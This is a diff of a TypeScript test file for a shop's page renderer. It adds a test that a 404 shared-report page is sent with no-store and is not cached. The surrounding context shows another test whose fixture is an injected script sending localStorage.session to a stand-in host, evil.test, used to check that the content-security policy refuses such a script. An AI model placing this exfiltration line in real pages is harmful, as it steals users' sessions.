@@ -162,6 +162,24 @@ it('names every script of the page in its policy', async () => {
   expect(html).not.toContain('nonce');
 });
 
+it('lets nobody keep the page of a shared report', async () => {
+  const gone = () => Promise.reject(Object.assign(new Error('gone'), { status: 404 }));
+  const { answer, keep } = await renderPage(
+    pages,
+    { path: '/shared-report/a-secret', search: '', lang: 'en', key: '' },
+    {
+      api: () =>
+        (async (key: string) => (key === 'GET /api/settings/public' ? shop : gone())) as unknown as Api,
+      publicUrl: () => 'https://shop.test',
+      cspSources: {},
+      dev: false,
+    },
+  );
+  expect(answer.status).toBe(404);
+  expect(keep).toBe(false);
+  expect(answer.headers['cache-control']).toBe('no-store');
+});
+
 it('does not bless a script that reaches the page through a text', async () => {
   const stolen = 'fetch("//evil.test/"+localStorage.session)';
   const { headers, body } = await article(`<p>Words</p><script>${stolen}</script>`);
